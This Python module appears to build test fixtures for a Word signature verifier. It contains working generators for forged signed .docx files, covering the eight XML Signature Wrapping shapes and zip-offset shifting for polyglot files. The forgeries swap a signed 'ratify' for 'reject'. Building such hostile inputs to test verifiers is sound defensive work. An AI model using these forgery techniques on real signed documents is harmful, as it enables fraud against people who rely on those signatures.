"""Forged Word files, by the classes in which the attacks on their signatures were published.

Each function makes one hostile file from one that was sealed a moment ago, with throw-away keys. The sources:
Rohlmann and others, "Every Signature is Broken" (2023: content injection, content masking, repair, wrapping
of what is old); McIntosh and Austel, "XML Signature Element Wrapping Attacks" (2005), in the eight shapes of
Somorovsky and others, "On Breaking SAML" (2012); polyglots after Albertini.
"""

from __future__ import annotations

import io
import struct
import zipfile
from copy import deepcopy
from functools import cache

from lxml import etree

from verify.word_seals import DS, RELS, TYPES_NS, WordSigner, changed, parts_of

SIGNATURE, TYPES = "_xmlsignatures/sig1.xml", "[Content_Types].xml"
ROOT_RELS, BODY, BODY_RELS = "_rels/.rels", "word/document.xml", "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006"
LINKS = f"{OFFICE}/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
CORE = "6C3C8BC8-F283-45AE-878A-BAB7291924A1"
"""The store of a document's properties, as content controls know it (MS-OI29500, 2.1.570)."""


# --- what is sealed ------------------------------------------------------------------------------


def document(inside=""):
    """A document of one sentence, and what else stands in it."""
    sentence = "<w:p><w:r><w:t>We ratify the treaty.</w:t></w:r></w:p>"
    return (
        f'{XML}<w:document xmlns:w="{W}"><w:body>{sentence}{inside}<w:sectPr/></w:body></w:document>'.encode()
    )


def relationships(*links):
    """A list of relationships: ids, types, targets."""
    each = "".join(
        f'<Relationship Id="{id_}" Type="{type_}" Target="{target}"/>' for id_, type_, target in links
    )
    return f'{XML}<Relationships xmlns="{RELS}">{each}</Relationships>'.encode()


@cache
def letter(inside="", *, with_items=False):
    """A small document with properties; `with_items`: and two parts of custom XML."""
    parts = {
        TYPES: types_of(with_items).encode(),
        ROOT_RELS: relationships(
            ("rId1", f"{LINKS}/officeDocument", BODY),
            ("rId2", f"{RELS}/metadata/core-properties", "docProps/core.xml"),
            ("rId3", f"{LINKS}/extended-properties", "docProps/app.xml"),
        ),
        "docProps/core.xml": core("Letter"),
        "docProps/app.xml": f'{XML}<Properties xmlns="{OFFICE}/extended-properties"/>'.encode(),
        BODY: document(inside),
        BODY_RELS: relationships(
            ("rId1", f"{LINKS}/styles", "styles.xml"),
            *(
                [(f"rIx{n}", f"{LINKS}/customXml", f"../customXml/item{n}.xml") for n in (1, 2)]
                if with_items
                else []
            ),
        ),
        "word/styles.xml": f'{XML}<w:styles xmlns:w="{W}"/>'.encode(),
    }
    for number in (1, 2) if with_items else ():
        parts[f"customXml/item{number}.xml"] = (
            f"<t>{'We ratify' if number == 1 else 'We reject'}</t>".encode()
        )
        parts[f"customXml/itemProps{number}.xml"] = item(number)
        parts[f"customXml/_rels/item{number}.xml.rels"] = relationships(
            ("rId1", f"{LINKS}/customXmlProps", f"itemProps{number}.xml")
        )
    return zipped(parts)


def types_of(with_items):
    overrides = {
        BODY: f"{WORD}.document.main+xml",
        "word/styles.xml": f"{WORD}.styles+xml",
        "docProps/core.xml": "application/vnd.openxmlformats-package.core-properties+xml",
        "docProps/app.xml": "application/vnd.openxmlformats-officedocument.extended-properties+xml",
    }
    if with_items:
        props = "application/vnd.openxmlformats-officedocument.customXmlProperties+xml"
        overrides |= {f"customXml/itemProps{number}.xml": props for number in (1, 2)}
    told = "".join(
        f'<Override PartName="/{name}" ContentType="{type_}"/>' for name, type_ in overrides.items()
    )
    defaults = (
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    )
    defaults += '<Default Extension="xml" ContentType="application/xml"/>'
    return f'{XML}<Types xmlns="{TYPES_NS}">{defaults}{told}</Types>'


def core(title):
    return (
        f"{XML}<cp:coreProperties "
        'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        f'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>{title}</dc:title></cp:coreProperties>'
    ).encode()


def item(number):
    """The properties of custom XML: its identity."""
    return f'<d:datastoreItem d:itemID="{{{store(number)}}}" xmlns:d="{OFFICE}/customXml"/>'.encode()


def store(number):
    return f"00000000-0000-0000-0000-00000000000{number}"


def field(code):
    """A field whose code is in one run."""
    marks = [f'<w:r><w:fldChar w:fldCharType="{each}"/></w:r>' for each in ("begin", "separate", "end")]
    inside = f"<w:r><w:instrText>{code}</w:instrText></w:r>"
    return f"<w:p>{marks[0]}{inside}{marks[1]}<w:r><w:t>Letter</w:t></w:r>{marks[2]}</w:p>"


def control(id_, path="/t"):
    """A content control that is bound to a store; no id: to whichever has the path."""
    told = f' w:storeItemID="{{{id_}}}"' if id_ else ""
    bound = f'<w:sdtPr><w:dataBinding w:xpath="{path}"{told}/></w:sdtPr>'
    return f"<w:sdt>{bound}<w:sdtContent><w:p><w:r><w:t>We ratify</w:t></w:r></w:p></w:sdtContent></w:sdt>"


@cache
def sealed(inside="", *, with_items=False, omit=()):
    return WordSigner(omit=omit).sign(letter(inside, with_items=with_items))


def swap(old, new):
    """A change of a part, which must have the old words."""

    def change(part):
        assert old.encode() in part, old
        return part.replace(old.encode(), new.encode(), 1)

    return change


def link(type_, target, more=""):
    """A change of a list of relationships, which gets one more."""
    return swap(
        "</Relationships>",
        f'<Relationship Id="rAdded" Type="{type_}" Target="{target}"{more}/></Relationships>',
    )


def zipped(parts, stored=()):
    """A package of these parts in their order; `stored`: those that are not compressed."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            kind = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), part, kind)
    return out.getvalue()


# --- wrapping: the signed element is moved, and another takes its place --------------------------


def root_of(content):
    return etree.fromstring(parts_of(content)[SIGNATURE])


def with_root(content, root):
    """The package with another signature part, and the sentence that it is to vouch for."""
    body = parts_of(content)[BODY].replace(b"ratify", b"reject")
    return changed(content, **{SIGNATURE: etree.tostring(root), BODY: body})


def target_of(root, id_):
    return next(each for each in root.iter() if each.get("Id") == id_)


def evil_of(target, id_=""):
    """What is to be taken for signed: a manifest that says the digest of the other sentence."""
    import base64
    import hashlib

    evil = deepcopy(target)
    evil.set("Id", id_ or target.get("Id"))
    digest = base64.b64encode(hashlib.sha256(document().replace(b"ratify", b"reject")).digest()).decode()
    for each in evil.iter(f"{{{DS}}}Reference"):
        if each.get("URI", "").startswith(f"/{BODY}?"):
            each.find(f"{{{DS}}}DigestValue").text = digest
    for each in evil.iter("{http://uri.etsi.org/01903/v1.3.2#}SigningTime"):
        each.text = "2020-01-01T00:00:00Z"
    return evil


def _holder(tag="Object"):
    return etree.Element(f"{{{DS}}}{tag}")


def xsw1(root, target):
    """The evil element wraps the signature, as its parent."""
    evil = evil_of(target)
    evil.append(deepcopy(root))
    return evil


def xsw2(root, target):
    """The evil element in place of the signed one, which stands behind the signature's own objects,
    detached.
    """
    place, parent = target.getparent().index(target), target.getparent()
    parent.remove(target)
    parent.insert(place, evil_of(target))
    root.append(target)
    return root


def xsw3(root, target):
    """The evil element in front, with an id of its own; the signed one behind it."""
    target.addprevious(evil_of(target, "idEvil"))
    return root


def xsw4(root, target):
    """The signed element within the evil one, which has an id of its own."""
    evil = evil_of(target, "idEvil")
    target.addprevious(evil)
    evil.append(target)
    return root


def xsw5(root, target):
    """The evil element keeps the id; the signed one is a copy at the end, with the id too."""
    target.addprevious(evil_of(target))
    root.append(target)
    return root


def xsw6(root, target):
    """The evil element keeps the id; the signed one stands within another signature in it."""
    evil, inner = evil_of(target), etree.Element(f"{{{DS}}}Signature")
    target.addprevious(evil)
    inner.append(target)
    evil.append(inner)
    return root


def xsw7(root, target):
    """An element that anything may stand in holds the evil one; the signed one stays."""
    holder = etree.Element("{urn:trial}Extensions")
    holder.append(evil_of(target))
    root.append(holder)
    return root


def xsw8(root, target):
    """The evil element in its place; the signed one in an object of the signature, which holds anything."""
    holder = _holder()
    target.addprevious(evil_of(target))
    holder.append(target)
    root.append(holder)
    return root


SHAPES = {
    f"XSW {number}": each for number, each in enumerate((xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8), 1)
}
TARGETS = ("idPackageObject", "idSignedProperties")


def wrapped(shape, id_):
    """A sealed file whose signature was wrapped in one of the eight shapes."""
    content = sealed()
    root = root_of(content)
    return with_root(content, shape(root, target_of(root, id_)))


# --- zip files that are something else, too ------------------------------------------------------


def shifted(content, by):
    """The offsets of a zip file, as they must be where so many bytes stand in front of it."""
    end = bytearray(content[-22:])
    start, count = struct.unpack_from("<L", end, 16)[0], struct.unpack_from("<H", end, 10)[0]
    struct.pack_into("<L", end, 16, start + by)
    directory, at = bytearray(content[start:-22]), 0
    for _ in range(count):
        lengths = struct.unpack_from("<3H", directory, at + 28)
        offset = struct.unpack_from("<L", directory, at + 42)[0]
        struct.pack_into("<L", directory, at + 42, offset + by)
        at += 46 + sum(lengths)
    return content[:start] + bytes(directory) + bytes(end)


def in_front(content, before):
    """Bytes before the package, with all offsets right."""
    return before + shifted(content, len(before))


def with_part(content, name, part, type_, *, link=None, first=False, stored=False):
    """A package with one part more, with its type, and with what leads to it from the package."""
    parts = parts_of(content)
    told = f'<Override PartName="/{name}" ContentType="{type_}"/></Types>'.encode()
    parts[TYPES] = parts[TYPES].replace(b"</Types>", told)
    if link:
        relationship = f'<Relationship Id="rAdded" Type="{link}" Target="{name}"/></Relationships>'.encode()
        parts[ROOT_RELS] = parts[ROOT_RELS].replace(b"</Relationships>", relationship)
    parts.pop(name, None)
    parts = {name: part, **parts} if first else {**parts, name: part}
    return zipped(parts, (name,) if stored else ())
